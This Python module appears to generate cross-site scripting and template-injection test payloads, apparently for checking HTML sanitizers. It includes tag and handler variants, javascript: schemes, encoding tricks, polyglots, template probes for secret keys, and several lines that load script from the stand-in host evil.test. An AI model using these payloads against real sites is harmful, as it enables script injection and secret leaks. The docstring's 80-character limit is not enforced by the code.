"""What people write who want their text to run: each calls ``ran`` or makes an element, if a page lets it."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALL = "ran(1)"
HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "oncopy", "onwheel", "onpointerenter")
TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script >",
    "<script\n>{}</script>",
    "<scr<script>ipt>{}</script>",
    "<<script>{}//<</script>",
    "<script src=//evil.test></script>",
    "<script src=data:,{}></script>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} />",
    "<math><mi><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<object data=data:text/html,<script>{}</script>>",
    "<embed src=javascript:{}>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test>",
    "<link rel=import href=//evil.test>",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<form action=javascript:{}><button>go</form>",
    "<button formaction=javascript:{}>go",
    "<isindex action=javascript:{}>",
    "<style>@import'//evil.test';</style>",
    "<style>*{{background:url(//evil.test)}}</style>",
    "<p style=background:url(//evil.test)>",
    "<p style=width:expression({})>",
    "<xss style=animation-name:x onanimationstart={}>",
    "<marquee onstart={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<svg><animate onbegin={} attributeName=x>",
    "<svg><a xlink:href=javascript:{}><text>x",
    "<svg><use href=data:image/svg+xml,x#y>",
    "<x contenteditable onblur={}>x",
    "<img src=x:x onerror\n={}>",
    "<img/src/onerror={}>",
    "<img src=`x`onerror={}>",
    "<img src=x onerror=&#114;an(1)>",
    "<img src=//evil.test/x>",
    "<img srcset=//evil.test/x>",
    "<body onpageshow={}>",
    "<keygen autofocus onfocus={}>",
    "<a href=javascript:{}>x</a>",
    "<a href=JaVaScRiPt:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<a href=data:text/html,x>x</a>",
    "<a href=vbscript:x>x</a>",
)
CARRIERS = (
    "<q {}={}>",
    "<img src=x {}={}>",
    "<svg {}={}>",
    '"{}={} x="',
    "'{}={} x='",
    '"><b {}={}>',
    " {}={} ",
    "` {}={} `",
)
CLOSERS = ("title", "textarea", "style", "script", "option", "select", "button", "a", "h1", "time", "bdi", "noscript")
BREAKOUTS = ("</{0}><script>{1}</script>", "</{0}><img src=x onerror={1}>")
COMMENTS = ("--><script>{}</script>", "<!--><img src=x onerror={}>-->", "]]><script>{}</script>", "<![CDATA[<b>]]>")
SCRIPTS = ("';{}//", '";{}//', "`;{}//", "${{{}}}", "\\';{}//", "</script><script>{}//", "*/{}/*", "\\u0027;{}//")
SCHEMES = (
    "javascript:{}",
    "JAVASCRIPT:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "//evil.test",
)
# What a template would make of it is 94011 or an error.
TEMPLATES = (
    "{{31337*3}}",
    "{% debug %}",
    "{{request.user}}",
    "{{settings.SECRET_KEY}}",
    "{% load log %}",
    "{#x#}",
    "{{''.__class__}}",
    "#{31337*3}",
    "<%=31337*3%>",
    "%(x)s",
    "{0.__class__}",
    "%s%n",
    "[[31337*3]]",
    "{{constructor.constructor('ran(1)')()}}",
)
ENTITIES = (
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "&#x3c;b&#x3e;",
    "&amp;lt;b&amp;gt;",
    "%3Cscript%3E{}",
)
UNICODE = (
    "＜script＞{}＜/script＞",
    "‹script›{}",
    "\u202e<img src=x onerror={}>",
    "\u2066<b>\u2069",
    "\ufeff<script>{}</script>",
    "<\u200bscript>{}</script>",
    "<i\u0307mg src=x onerror={}>",
    "<ſcript>{}</ſcript>",
    "\u2028{}//",
    "\x7f<b>{}</b>",
    "<\u0600b>",
    "+ADw-script+AD4-{}",
    "¼script¾{}¼/script¾",
    "𝒔<b>{}</b>",
)
POLYGLOTS = (
    "'\"></title></script><svg/onload={}>",
    "jaVasCript:/*-/*`/*'/*\"/**/(/* */oNcliCk={} )//</title><b>",
    "\"'--></style></script><b onclick={}>",
    "'>\"><img src=x onerror={}>",
    "`\"'><img src=x onerror={}>",
    "<b>\"'`={}</b>",
)


def payloads() -> list[str]:
    """All of them, each once, at most 80 characters long: that is the shortest text that people write."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for family in (TAGS, COMMENTS, SCRIPTS, SCHEMES, ENTITIES, UNICODE, POLYGLOTS):
        yield from (text.format(CALL) for text in family)
    yield from TEMPLATES
    yield from (carrier.format(handler, CALL) for carrier, handler in product(CARRIERS, HANDLERS))
    yield from (breakout.format(closer, CALL) for breakout, closer in product(BREAKOUTS, CLOSERS))


def packed(limit: int) -> list[str]:
    """All payloads, as many in each text as fit."""
    texts: list[str] = []
    for payload in payloads():
        if texts and len(texts[-1]) + len(payload) < limit:
            texts[-1] += f" {payload}"
        else:
            texts.append(payload)
    return texts
